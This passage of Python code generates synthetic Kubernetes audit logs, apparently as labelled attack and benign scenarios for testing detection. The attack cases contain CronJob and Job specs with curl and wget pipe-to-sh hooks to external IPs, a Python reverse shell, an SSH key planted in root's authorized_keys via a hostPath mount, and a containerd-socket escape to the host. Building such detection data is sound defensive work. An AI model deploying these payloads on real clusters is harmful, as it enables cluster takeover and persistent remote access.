                              resources=res("500m", "1Gi"), sc=sc_restricted(1000))],
                   restart="OnFailure", sa="indexer")
    b.stored_cronjob("search", "es-reindex", "0 */6 * * *", spec, log.t - dt.timedelta(days=30))
    user = {"username": "system:serviceaccount:logging:fluentd", "uid": c.uid(),
            "groups": ["system:serviceaccounts", "system:serviceaccounts:logging", "system:authenticated"]}
    ua = "OpenAPI-Generator/28.1.0/python"
    ip = ["159.100.6.40"]
    reason = rbac_reason_crb("fluentd-legacy", "cluster-admin", "ServiceAccount", "fluentd/logging")
    patch = [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/image", "value": "docker.io/searchtoolsx/indexer:7.4.2"},
             {"op": "add", "path": "/spec/jobTemplate/spec/template/spec/containers/0/args/-", "value": "--post-hook=sh -c 'curl -fsS http://159.100.6.40/p | sh'"},
             {"op": "add", "path": "/spec/jobTemplate/spec/template/spec/hostNetwork", "value": True}]

    def mutate(o):
        pt = o["spec"]["jobTemplate"]["spec"]["template"]["spec"]
        ct = pt["containers"][0]
        ct["image"] = "docker.io/searchtoolsx/indexer:7.4.2"
        ct["args"] = ct["args"] + ["--post-hook=sh -c 'curl -fsS http://159.100.6.40/p | sh'"]
        new = {}
        for k, v in pt.items():
            if k == "securityContext":
                new["hostNetwork"] = True
            new[k] = v
        new["dnsPolicy"] = "ClusterFirst"
        o["spec"]["jobTemplate"]["spec"]["template"]["spec"] = new
        return o
    aid = b.patch_cronjob(ns="search", name="es-reindex", patch=patch, new_obj_fn=mutate, user=user, ua=ua, ips=ip, reason=reason, query="")
    noise.burst(rng.randint(8, 12))
    attack("hijack-cronjob-json-patch-legacy-token", log, [aid],
           "Long-lived legacy SA token (no pod binding) used from an external IP with the python client JSON-patches a CronJob: image swapped to Docker Hub, curl | sh hook, hostNetwork")


def a_ssa_hijack_cdk_style():
    rng, c, log, noise, b = setup(118, ["kube-system", "default", "apps"], flavour="kubeadm", stages=True)
    pod = f"api-gateway-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("apps", "api-gateway", pod)
    ua = "Go-http-client/1.1"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("api-gateway-ops", "admin", "ServiceAccount", "api-gateway/apps")
    spec = podspec([container("etcd-defrag-container", "busybox:1.36", None,
                              ["/bin/sh", "-c", "cp /bin/busybox /host/usr/local/bin/.sys && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHzqD0d9Yh2xSm root@kali' >> /host/root/.ssh/authorized_keys"],
                              mounts=[mount("host", "/host")], pull="IfNotPresent")],
                   volumes=[hostpath_vol("host", "/")], restart="OnFailure")
    aid = b.create_cronjob(ns="kube-system", name="etcd-defrag", schedule="@daily", pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="",
                           reason=reason)
    noise.burst(rng.randint(8, 12))
    attack("kube-system-cronjob-hostpath-root-ssh-key", log, [aid],
           "Pod token with a raw Go HTTP client creates kube-system CronJob 'etcd-defrag' that mounts / and appends an SSH key to root's authorized_keys")


def a_containerd_socket_job():
    rng, c, log, noise, b = setup(119, ["ci", "default", "builds"], flavour="onprem")
    user = human_oidc("build-bot@example.org", ["ci-operators"])
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = ["146.70.199.12"]
    reason = edit_reason("builds", "Group", "oidc:ci-operators", "ci-operators-edit")
    cmd = ("ctr -n k8s.io images pull docker.io/library/alpine:3.19 >/dev/null && "
           "ctr -n k8s.io run --rm --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:3.19 x "
           "chroot /host sh -c 'curl -s http://146.70.199.12/a | sh'")
    spec = podspec([container("cache-prune", "146.70.199.12:5000/tools/ctr:1.7", ["sh", "-c"], [cmd],
                              mounts=[mount("containerd", "/run/containerd/containerd.sock")])],
                   volumes=[hostpath_vol("containerd", "/run/containerd/containerd.sock", "Socket")], restart="Never")
    aid, _ = b.create_job(ns="builds", name="buildkit-cache-prune", pod_spec=spec, user=user, ua=ua, ips=ip, reason=reason)
    b.run_job("builds", "buildkit-cache-prune")
    noise.burst(rng.randint(6, 10))
    attack("containerd-socket-job-ip-registry", log, [aid],
           "Job from an IP:port registry image mounts the node's containerd socket and uses ctr to run a privileged container that chroots into the host and runs curl | sh")


def a_impersonate_cronjob_controller():
    rng, c, log, noise, b = setup(120, ["payments", "default", "kube-system"], flavour="eks", stages=True)
    spec = podspec([container("settle", "registry.example.org/payments/settlement:5.1.3", ["/app/settle"], ["--window=5m"],
                              sc=sc_restricted(1000))], restart="OnFailure", sa="settlement")
    cj = b.stored_cronjob("payments", "settlement-batch", "*/5 * * * *", spec, log.t - dt.timedelta(days=70))
    user = human_oidc("a.novak@example.org", ["payments-devs"])
    imp = {"username": "system:serviceaccount:kube-system:cronjob-controller",
           "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]}
    ua = c.kubectl_ua("darwin/arm64", "1.29.3")
    ip = ["10.8.30.44"]
    evil = copy.deepcopy(spec)
    evil["containers"][0]["command"] = ["/bin/sh", "-c"]
    evil["containers"][0]["args"] = ["/app/settle --window=5m --payout-account=DE89370400440532013000 --force"]
    slot = log.t.replace(second=0, microsecond=0)
    slot = slot.replace(minute=slot.minute // 5 * 5)
    aid, _ = b.create_job(ns="payments", name=f"settlement-batch-{int(slot.timestamp()) // 60}", pod_spec=evil, user=user, ua=ua, ips=ip,
                          reason=ctrl_reason("cronjob-controller"), impersonated=imp,
                          owners=[owner("CronJob", "settlement-batch", cj["metadata"]["uid"])],
                          annotations={"batch.kubernetes.io/cronjob-scheduled-timestamp": ts_sec(slot)})
    b.run_job("payments", f"settlement-batch-{int(slot.timestamp()) // 60}")
    noise.burst(rng.randint(5, 9))
    attack("impersonated-cronjob-controller-job", log, [aid],
           "A developer impersonates the cronjob-controller service account (kubectl --as) to create a Job that looks like a CronJob tick but runs a modified settlement command")


def a_replace_update_hijack():
    rng, c, log, noise, b = setup(121, ["media", "default", "cdn"], flavour="gke", stages=True)
    spec = podspec([container("thumbs", "europe-docker.pkg.dev/example-prod/media/thumbnailer:2.2.0", ["/thumbnailer"], ["--pending"],
                              resources=res("500m", "512Mi"), sc=sc_restricted(1000))], restart="OnFailure", sa="thumbnailer")
    cj = b.stored_cronjob("media", "thumbnail-backfill", "*/30 * * * *", spec, log.t - dt.timedelta(days=15))
    user = {"username": "media-ci@example-prod.iam.gserviceaccount.com", "groups": ["system:authenticated"],
            "extra": M({"iam.gke.io/user-assertion": ["AKUJVpn0gBQ2hZ3bYyJ0a1Nz"], "user-assertion.cloud.google.com": ["AKUJVpn0gBQ2hZ3bYyJ0a1Nz"]})}
    ua = c.kubectl_ua("linux/amd64", "1.29.1")
    ip = ["34.118.27.91"]
    reason = "RBAC: allowed by RoleBinding \"media-ci/media\" of ClusterRole \"edit\" to User \"media-ci@example-prod.iam.gserviceaccount.com\""
    b.get_cronjob("media", "thumbnail-backfill", user, ua, ip, reason)
    noise.burst(rng.randint(2, 4))
    new = copy.deepcopy(cj)
    pt = new["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    pt["containers"][0]["image"] = "docker.io/mediatoolsx/thumbnailer:2.2.0"
    pt["containers"][0]["command"] = ["/bin/sh", "-c"]
    pt["containers"][0]["args"] = ["/thumbnailer --pending & wget -q -O- http://34.118.27.91/t | sh; wait"]
    new["spec"]["schedule"] = "*/3 * * * *"
    req = copy.deepcopy(new)
    req.pop("status", None)
    req["status"] = {}
    new["metadata"]["resourceVersion"] = log.next_rv()
    new["metadata"]["generation"] = cj["metadata"]["generation"] + 1
    b.cronjobs[("media", "thumbnail-backfill")] = new
    aid = log.request(verb="update", uri="/apis/batch/v1/namespaces/media/cronjobs/thumbnail-backfill?fieldManager=kubectl-replace&fieldValidation=Strict",
                      user=user, ua=ua, ips=ip,
                      object_ref={"resource": "cronjobs", "namespace": "media", "name": "thumbnail-backfill", "uid": cj["metadata"]["uid"],
                                  "apiGroup": "batch", "apiVersion": "v1", "resourceVersion": cj["metadata"]["resourceVersion"]},
                      level="RequestResponse", req=req, resp=new, annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(6, 10))
    attack("hijack-cronjob-kubectl-replace-update", log, [aid],
           "A CI Google service account used from outside the usual runners replaces (PUT) a CronJob: image moved to Docker Hub, wget | sh appended, schedule every 3 minutes")


def a_gitops_compromised_repo():
    rng, c, log, noise, b = setup(123, ["marketing", "argocd", "default"], flavour="eks", stages=True)
    user = c.sa("argocd", "argocd-application-controller", "argocd-application-controller-0")
    ua = "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("argocd-application-controller", "argocd-application-controller", "ServiceAccount", "argocd-application-controller/argocd")
    spec = podspec([container("sitemap", "node:20-alpine", ["sh", "-c"],
                              ["npm ci --omit=dev >/dev/null && node scripts/sitemap.js; wget -qO- https://cdn-jsdelivr.net.co/npm/sitemap-gen@latest/postinstall.sh | sh"])],
                   restart="OnFailure")
    labels = {"app.kubernetes.io/instance": "marketing-site", "app.kubernetes.io/name": "sitemap-refresh"}
    ann = {"argocd.argoproj.io/tracking-id": "marketing-site:batch/CronJob:marketing/sitemap-refresh"}
    log.begin()
    obj = cronjob_object("sitemap-refresh", "marketing", "*/10 * * * *", spec, labels=labels, annotations=ann,
                         server=(c.uid(), log.next_rv(), ts_sec(log.t)))
    body = apply_body_from(obj, ann["argocd.argoproj.io/tracking-id"])
    aid = log.request(verb="patch", uri="/apis/batch/v1/namespaces/marketing/cronjobs/sitemap-refresh?fieldManager=argocd-controller&force=true",
                      user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "marketing", "sitemap-refresh"), level="RequestResponse",
                      code=201, req=body, resp=obj, annotations={"authorization.k8s.io/reason": reason})
    b.cronjobs[("marketing", "sitemap-refresh")] = obj
    noise.burst(rng.randint(8, 12))
    attack("gitops-synced-cronjob-with-wget-sh", log, [aid],
           "Argo CD faithfully syncs a CronJob from a compromised git repo: its container pipes wget from a typo-squatted CDN into sh (trusted identity, malicious content)")


def a_server_side_apply_python_reverse_shell():
    rng, c, log, noise, b = setup(124, ["analytics", "default", "kafka"], flavour="onprem", stages=True)
    user = {"username": "svc-etl", "uid": "1012", "groups": ["etl-operators", "system:authenticated"]}
    ua = c.kubectl_ua("linux/amd64", "1.29.3")
    ip = ["172.16.88.14"]
    reason = rbac_reason_rb("etl-operators", "analytics", "ClusterRole", "edit", "Group", "etl-operators")
    shell = ("import socket,os,pty;s=socket.socket();s.connect(('92.118.39.62',443));"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')")
    spec = podspec([container("compact", "python:3.11-slim", ["python3", "-c", shell])], restart="OnFailure")
    log.begin()
    obj = cronjob_object("kafka-offsets-compact", "analytics", "@hourly", spec, server=(c.uid(), log.next_rv(), ts_sec(log.t)))
    body = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "kafka-offsets-compact", "namespace": "analytics"},
            "spec": {"schedule": "@hourly", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure",
                     "containers": [{"name": "compact", "image": "python:3.11-slim", "command": ["python3", "-c", shell]}]}}}}}}
    aid = log.request(verb="patch", uri="/apis/batch/v1/namespaces/analytics/cronjobs/kafka-offsets-compact?fieldManager=kubectl&fieldValidation=Strict&force=false",
                      user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "analytics", "kafka-offsets-compact"), level="RequestResponse",
                      code=201, req=body, resp=obj, annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(8, 12))
    attack("server-side-apply-cronjob-python-reverse-shell", log, [aid],
           "A static-token user creates a CronJob with kubectl apply --server-side whose container is a python socket/pty reverse shell (no /dev/tcp, no nc)")


# ==========================================================================
# benign


def app_cronjobs(b, ns, created):
    """A few ordinary application CronJobs that existed before the log starts."""
    out = []
    specs = [
        ("invoice-reminders", "0 * * * *", container("mailer", "registry.example.org/billing/reminders:2.8.0",
                                                     ["node", "dist/jobs/reminders.js"], env=[("NODE_ENV", "production")],
                                                     resources=res("100m", "128Mi", None, "256Mi"), sc=sc_restricted(1000))),
        ("cache-compact", "*/15 * * * *", container("compact", "redis:7.2.4-alpine", ["sh", "-c"],
                                                    ["redis-cli -h cache-redis -a \"$REDIS_PASSWORD\" MEMORY PURGE && echo done"],
                                                    env=[("REDIS_PASSWORD", {"secretKeyRef": {"name": "cache-redis", "key": "password"}})])),
        ("session-gc", "7 3 * * *", container("gc", "registry.example.org/platform/session-gc@sha256:3b1f5e2c9d0a4f6e8b7c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a",
                                              ["/session-gc"], ["--max-age=72h"], sc=sc_restricted(65532))),
    ]
    for name, sched, ct in specs:
        spec = podspec([ct], restart="OnFailure", psc={"runAsNonRoot": True} if "sha256" in ct["image"] else None)
        out.append(b.stored_cronjob(ns, name, sched, spec, created, labels={"app.kubernetes.io/name": name},
                                    tmpl_labels={"app.kubernetes.io/name": name}))
    return out


def b_cronjob_controller_ticks():
    rng, c, log, noise, b = setup(201, ["billing", "default", "kube-system"], flavour="eks")
    app_cronjobs(b, "billing", log.t - dt.timedelta(days=60))
    base = log.t.replace(minute=0, second=0, microsecond=0) + dt.timedelta(hours=1)
    log.t = base - dt.timedelta(seconds=20)
    noise.burst(5)
    log.t = max(log.t, base + dt.timedelta(milliseconds=rng.randint(10, 600)))
    for name in ["invoice-reminders", "cache-compact"]:
        b.tick("billing", name, base)
        noise.burst(rng.randint(2, 5))
    log.gap(60 * 14)
    b.tick("billing", "cache-compact", base + dt.timedelta(minutes=15))
    noise.burst(rng.randint(5, 8))
    benign("cronjob-controller-ticks-and-job-controller-pods", log,
           "cronjob-controller creates Jobs for its own CronJobs (controller ownerReference with the real uid), job-controller creates the pods, status updates")


def b_ttl_gc_deletes():
    rng, c, log, noise, b = setup(202, ["billing", "default", "data"], flavour="kubeadm", stages=True)
    app_cronjobs(b, "billing", log.t - dt.timedelta(days=20))
    base = log.t.replace(minute=0, second=0, microsecond=0) + dt.timedelta(hours=1)
    log.t = max(log.t, base + dt.timedelta(milliseconds=300))
    _, job = b.tick("billing", "invoice-reminders", base)
    pods = [p for p in []]
    noise.burst(rng.randint(3, 6))
    log.gap(180)
    # ttl-after-finished deletes a finished Job spawned by a CronJob whose template sets a TTL
    spec = podspec([container("export", "registry.example.org/data/exporter:1.9.0", ["/exporter"], ["--once"], sc=sc_restricted(1000))],
                   restart="Never", sa="exporter")
    b.stored_cronjob("data", "warehouse-export", "*/20 * * * *", spec, log.t - dt.timedelta(days=8), ttl=300)
    slot = log.t.replace(second=0, microsecond=0)
    slot = slot.replace(minute=slot.minute // 20 * 20) + dt.timedelta(minutes=20)
    log.t = max(log.t, slot + dt.timedelta(milliseconds=rng.randint(50, 900)))
    aid, exp_job = b.tick("data", "warehouse-export", slot, run=False)
    export_name = exp_job["metadata"]["name"]
    pods = b.run_job("data", export_name)
    log.gap(300)
    b.delete_job("data", export_name, c.ctrl("ttl-after-finished-controller"), c.kcm_ua("ttl-after-finished-controller"), [c.apiserver_ip],
                 ctrl_reason("ttl-after-finished-controller"), propagation="Foreground", preconditions=True)
    b.gc_pods("data", pods)
    noise.burst(rng.randint(3, 5))
    # cronjob-controller removes jobs beyond the history limit
    old = f"invoice-reminders-{int((base - dt.timedelta(hours=3)).timestamp()) // 60}"
    b.delete_job("billing", old, c.ctrl("cronjob-controller"), c.kcm_ua("cronjob-controller"), [c.apiserver_ip],
                 ctrl_reason("cronjob-controller"), propagation="Background")
    b.gc_pods("billing", [f"{old}-{rand_suffix(rng)}"])
    noise.burst(rng.randint(5, 8))
    _ = aid, job
    benign("ttl-after-finished-and-garbage-collector-deletes", log,
           "ttl-after-finished-controller deletes a finished Job, cronjob-controller prunes history, generic-garbage-collector deletes the pods")


def helm_hook_job(name, ns, hook, image, command, args, sa=None, weight="1", delete_policy="before-hook-creation,hook-succeeded",
                  labels=None, sc=None):
    spec = podspec([container(name, image, command, args, sc=sc)], restart="OnFailure", sa=sa,
                   psc={"runAsNonRoot": True, "runAsUser": 2000, "fsGroup": 2000} if sc else None)
    ann = {"helm.sh/hook": hook, "helm.sh/hook-weight": weight, "helm.sh/hook-delete-policy": delete_policy}
    return spec, ann, labels or {}


def b_helm_hooks():
    rng, c, log, noise, b = setup(203, ["ingress-nginx", "shop", "default"], flavour="gke", stages=True)
    pod = f"runner-{rand_suffix(rng, 8)}-project-{rng.randint(100, 999)}-concurrent-0-{rand_suffix(rng, 8)}"
    user = c.sa("gitlab-runner", "deployer", pod)
    ua = "Helm/3.14.2"
    ip = [c.pod_ip()]
    reason_ing = rbac_reason_crb("gitlab-deployer", "cluster-admin", "ServiceAccount", "deployer/gitlab-runner")
    labels = {"app.kubernetes.io/component": "admission-webhook", "app.kubernetes.io/instance": "ingress-nginx",
              "app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/name": "ingress-nginx", "app.kubernetes.io/part-of": "ingress-nginx",
              "app.kubernetes.io/version": "1.10.0", "helm.sh/chart": "ingress-nginx-4.10.0"}
    img = "registry.k8s.io/ingress-nginx/kube-webhook-certgen:v1.4.0@sha256:44d1d0e9f19c63f58b380c5fddaca7cf22c7cee564adeff365225a5df5ef3334"
    sc = {"capabilities": {"drop": ["ALL"]}, "runAsUser": 65532, "runAsNonRoot": True, "readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False, "seccompProfile": {"type": "RuntimeDefault"}}
    for hook_name, args in [("ingress-nginx-admission-create", ["create", "--host=ingress-nginx-controller-admission,ingress-nginx-controller-admission.$(POD_NAMESPACE).svc", "--namespace=$(POD_NAMESPACE)", "--secret-name=ingress-nginx-admission"]),
                            ("ingress-nginx-admission-patch", ["patch", "--webhook-name=ingress-nginx-admission", "--namespace=$(POD_NAMESPACE)", "--patch-mutating=false", "--secret-name=ingress-nginx-admission", "--patch-failure-policy=Fail"])]:
        log.request(verb="get", uri=f"/apis/batch/v1/namespaces/ingress-nginx/jobs/{hook_name}", user=user, ua=ua, ips=ip,
                    object_ref=batch_ref("jobs", "ingress-nginx", hook_name), status={"metadata": {}, "status": "Failure", "message": f'jobs.batch "{hook_name}" not found', "reason": "NotFound", "details": {"name": hook_name, "group": "batch", "kind": "jobs"}, "code": 404},
                    annotations={"authorization.k8s.io/reason": reason_ing})
        ct = container("create" if "create" in hook_name else "patch", img, None, args, sc=sc,
                       env=[("POD_NAMESPACE", {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"}})])
        spec = podspec([ct], restart="OnFailure", sa="ingress-nginx-admission", node_selector={"kubernetes.io/os": "linux"},
                       psc={"seccompProfile": {"type": "RuntimeDefault"}})
        ann = {"helm.sh/hook": "pre-install,pre-upgrade", "helm.sh/hook-delete-policy": "before-hook-creation,hook-succeeded"}
        b.create_job(ns="ingress-nginx", name=hook_name, pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="?fieldManager=helm",
                     reason=reason_ing, labels=labels, annotations=ann, tmpl_labels=labels)
        b.run_job("ingress-nginx", hook_name)
        b.delete_job("ingress-nginx", hook_name, user, ua, ip, reason_ing, propagation="Background")
        noise.burst(rng.randint(2, 5))
    # application upgrade with a post-upgrade db migration hook
    shop_labels = {"app.kubernetes.io/instance": "shop-api", "app.kubernetes.io/managed-by": "Helm", "app.kubernetes.io/name": "shop-api",
                   "helm.sh/chart": "shop-api-3.8.2"}
    ct = container("migrate", "europe-docker.pkg.dev/example-prod/shop/api:3.8.2", ["./bin/migrate"], ["up", "--lock-timeout=60s"],
                   env=[("DATABASE_URL", {"secretKeyRef": {"name": "shop-api-db", "key": "url"}})], resources=res("200m", "256Mi", None, "512Mi"),
                   sc=sc_restricted(10001))
    spec = podspec([ct], restart="Never", sa="shop-api")
    b.create_job(ns="shop", name="shop-api-db-migrate", pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="?fieldManager=helm",
                 reason=rbac_reason_crb("gitlab-deployer", "cluster-admin", "ServiceAccount", "deployer/gitlab-runner"), labels=shop_labels,
                 annotations={"helm.sh/hook": "post-install,post-upgrade", "helm.sh/hook-weight": "-5", "helm.sh/hook-delete-policy": "before-hook-creation"},
                 tmpl_labels=shop_labels, backoff=1)
    b.run_job("shop", "shop-api-db-migrate")
    noise.burst(rng.randint(5, 8))
    benign("helm-hooks-from-ci-runner", log,
           "Helm 3 run from a GitLab runner pod (CI service account) creates and deletes pre-install/post-upgrade hook Jobs (ingress-nginx certgen, db migration)")


def b_argocd():
    rng, c, log, noise, b = setup(204, ["reporting", "argocd", "default"], flavour="eks", stages=True)
    pod = "argocd-application-controller-0"
    user = c.sa("argocd", "argocd-application-controller", pod)
    ua = "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("argocd-application-controller", "argocd-application-controller", "ServiceAccount", "argocd-application-controller/argocd")
    labels = {"app.kubernetes.io/instance": "reporting", "app.kubernetes.io/name": "nightly-report"}
    ct = container("report", "registry.example.org/analytics/report-builder:4.12.0", ["python", "-m", "reports.nightly"], ["--since=24h"],
                   resources=res("250m", "512Mi", None, "1Gi"), sc=sc_restricted(10001))
    spec = podspec([ct], restart="OnFailure", sa="report-builder", psc={"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}})
    apply_body = {"apiVersion": "batch/v1", "kind": "CronJob",
                  "metadata": {"annotations": {"argocd.argoproj.io/tracking-id": "reporting:batch/CronJob:reporting/nightly-report"},
                               "labels": labels, "name": "nightly-report", "namespace": "reporting"},
                  "spec": {"schedule": "30 1 * * *", "timeZone": "Europe/Berlin", "jobTemplate": {"spec": {"template": {"metadata": {"labels": {"app.kubernetes.io/name": "nightly-report"}},
                           "spec": {"serviceAccountName": "report-builder", "restartPolicy": "OnFailure",
                                    "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
                                    "containers": [{"name": "report", "image": "registry.example.org/analytics/report-builder:4.12.0",
                                                    "command": ["python", "-m", "reports.nightly"], "args": ["--since=24h"],
                                                    "resources": {"requests": {"cpu": "250m", "memory": "512Mi"}, "limits": {"memory": "1Gi"}},
                                                    "securityContext": sc_restricted(10001)}]}}}}}}
    # PreSync hook job
    hook_spec = podspec([container("schema-check", "registry.example.org/analytics/report-builder:4.12.0", ["python", "-m", "reports.schema_check"],
                                   sc=sc_restricted(10001))], restart="Never", sa="report-builder")
    b.create_job(ns="reporting", name="reporting-presync-schema-check", pod_spec=hook_spec, user=user, ua=ua, ips=ip, uri_query="",
                 reason=reason, annotations={"argocd.argoproj.io/hook": "PreSync", "argocd.argoproj.io/hook-delete-policy": "BeforeHookCreation",
                                             "argocd.argoproj.io/tracking-id": "reporting:batch/Job:reporting/reporting-presync-schema-check"},
                 labels=labels, backoff=2)
    b.run_job("reporting", "reporting-presync-schema-check")
    noise.burst(rng.randint(2, 4))
    # dry-run then real server-side apply creating the CronJob
    kw = dict(tz="Europe/Berlin", labels=labels, annotations={"argocd.argoproj.io/tracking-id": "reporting:batch/CronJob:reporting/nightly-report"},
              tmpl_labels={"app.kubernetes.io/name": "nightly-report"})
    log.begin()
    obj = cronjob_object("nightly-report", "reporting", "30 1 * * *", spec, server=(c.uid(), log.next_rv(), ts_sec(log.t)), **kw)
    dry = copy.deepcopy(obj)
    dry["metadata"].pop("resourceVersion")
    log.request(verb="patch", uri="/apis/batch/v1/namespaces/reporting/cronjobs/nightly-report?dryRun=All&fieldManager=argocd-controller&force=true",
                user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "reporting", "nightly-report"), level="RequestResponse", code=201,
                req=apply_body, resp=dry, annotations={"authorization.k8s.io/reason": reason})
    log.request(verb="patch", uri="/apis/batch/v1/namespaces/reporting/cronjobs/nightly-report?fieldManager=argocd-controller&force=true",
                user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "reporting", "nightly-report"), level="RequestResponse", code=201,
                req=apply_body, resp=obj, annotations={"authorization.k8s.io/reason": reason})
    b.cronjobs[("reporting", "nightly-report")] = obj
    noise.burst(rng.randint(6, 10))
    # a later sync bumps the image tag (same registry, same command) from git
    log.gap(600)
    body2 = copy.deepcopy(apply_body)
    body2["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.example.org/analytics/report-builder:4.12.1"

    def mutate(o):
        o["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.example.org/analytics/report-builder:4.12.1"
        return o
    b.patch_cronjob(ns="reporting", name="nightly-report", patch=body2, new_obj_fn=mutate, user=user, ua=ua, ips=ip, reason=reason,
                    query="?fieldManager=argocd-controller&force=true")
    noise.burst(rng.randint(5, 8))
    benign("argocd-server-side-apply-cronjob-and-presync-hook", log,
           "Argo CD application-controller runs a PreSync hook Job, server-side-applies a clean CronJob (dry-run first), later syncs an image tag bump from git")


def b_flux():
    rng, c, log, noise, b = setup(205, ["platform-jobs", "flux-system", "default"], flavour="kubeadm")
    pod = f"kustomize-controller-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("flux-system", "kustomize-controller", pod)
    ua = "kustomize-controller/v0.0.0 (linux/amd64) kubernetes/$Format"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("cluster-reconciler-flux-system", "cluster-admin", "ServiceAccount", "kustomize-controller/flux-system")
    labels = {"kustomize.toolkit.fluxcd.io/name": "platform-jobs", "kustomize.toolkit.fluxcd.io/namespace": "flux-system"}
    ct = container("cert-expiry", "ghcr.io/example-org/cert-expiry-exporter:v0.6.3", ["/cert-expiry"], ["--warn-days=21", "--push-gateway=http://pushgateway.monitoring:9091"],
                   resources=res("50m", "64Mi", None, "128Mi"), sc=sc_restricted(65534))
    spec = podspec([ct], restart="OnFailure", sa="cert-expiry")
    kw = dict(labels=labels, concurrency="Forbid", tmpl_labels={"app": "cert-expiry"})
    body = {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"labels": labels, "name": "cert-expiry-check", "namespace": "platform-jobs"},
            "spec": {"concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {"template": {"metadata": {"labels": {"app": "cert-expiry"}},
                     "spec": {"containers": [{"args": ct["args"], "command": ct["command"], "image": ct["image"], "name": "cert-expiry",
                                              "resources": {"limits": {"memory": "128Mi"}, "requests": {"cpu": "50m", "memory": "64Mi"}},
                                              "securityContext": sc_restricted(65534)}], "restartPolicy": "OnFailure", "serviceAccountName": "cert-expiry"}}}},
                     "schedule": "0 6 * * *"}}
    log.begin()
    obj = cronjob_object("cert-expiry-check", "platform-jobs", "0 6 * * *", spec, server=(c.uid(), log.next_rv(), ts_sec(log.t)), **kw)
    for q in ["?dryRun=All&fieldManager=kustomize-controller&force=true", "?fieldManager=kustomize-controller&force=true"]:
        resp = copy.deepcopy(obj)
        if "dryRun" in q:
            resp["metadata"].pop("resourceVersion")
        log.request(verb="patch", uri=f"/apis/batch/v1/namespaces/platform-jobs/cronjobs/cert-expiry-check{q}", user=user, ua=ua, ips=ip,
                    object_ref=batch_ref("cronjobs", "platform-jobs", "cert-expiry-check"), level="RequestResponse", code=201, req=body, resp=resp,
                    annotations={"authorization.k8s.io/reason": reason})
        noise.burst(rng.randint(1, 3))
    b.cronjobs[("platform-jobs", "cert-expiry-check")] = obj
    noise.burst(rng.randint(4, 8))
    # periodic reconcile: unchanged object, dry-run diff only
    log.gap(300)
    log.request(verb="patch", uri="/apis/batch/v1/namespaces/platform-jobs/cronjobs/cert-expiry-check?dryRun=All&fieldManager=kustomize-controller&force=true",
                user=user, ua=ua, ips=ip, object_ref=batch_ref("cronjobs", "platform-jobs", "cert-expiry-check"), level="RequestResponse", req=body, resp=obj,
                annotations={"authorization.k8s.io/reason": reason})
    noise.burst(rng.randint(5, 8))
    benign("flux-kustomize-controller-applies-cronjob", log,
           "Flux kustomize-controller server-side-applies a clean CronJob (dry-run diff, apply, periodic no-op reconcile)")


def b_velero():
    rng, c, log, noise, b = setup(206, ["velero", "billing", "default"], flavour="gke", stages=True)
    pod = f"velero-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
    user = c.sa("velero", "velero", pod)
    ua = "velero-server/v1.14.0 (linux/amd64) 2fc6300f2239f250b40b0488c35feae59520f2d3"
    ip = [c.pod_ip()]
    reason = rbac_reason_crb("velero", "cluster-admin", "ServiceAccount", "velero/velero")
    for res_ in ["cronjobs", "jobs", "secrets", "configmaps"]:
        grp = "batch" if res_ in ("cronjobs", "jobs") else ""
        path = "/apis/batch/v1" if grp else "/api/v1"
        log.request(verb="list", uri=f"{path}/{res_}", user=user, ua=ua, ips=ip, object_ref=objref(res_, group=grp, version="v1"),
                    annotations={"authorization.k8s.io/reason": reason})
        noise.burst(rng.randint(1, 3))
    # repository maintenance job (velero >= 1.14)
    repo = "billing-default-kopia-8dmq2"
    ct = container("velero-repo-maintenance-container", "velero/velero:v1.14.0", ["/velero"],
                   ["repo-maintenance", f"--repo-name=billing", "--repo-type=kopia", "--backup-storage-location=default", "--log-level=info", "--log-format=text"],
                   env=[("GOOGLE_APPLICATION_CREDENTIALS", "/credentials/cloud"), ("VELERO_NAMESPACE", "velero")],
                   mounts=[mount("cloud-credentials", "/credentials"), mount("scratch", "/scratch")], resources=res("100m", "128Mi", "1", "1Gi"))
    spec = podspec([ct], restart="OnFailure", sa="velero", volumes=[secret_vol("cloud-credentials", "cloud-credentials"), emptydir_vol("scratch")],
                   psc={"runAsNonRoot": True, "runAsUser": 1000})
    name = f"{repo}-maintain-job-{int(log.t.timestamp() * 1000)}"
    b.create_job(ns="velero", name=name, pod_spec=spec, user=user, ua=ua, ips=ip, uri_query="", reason=reason,
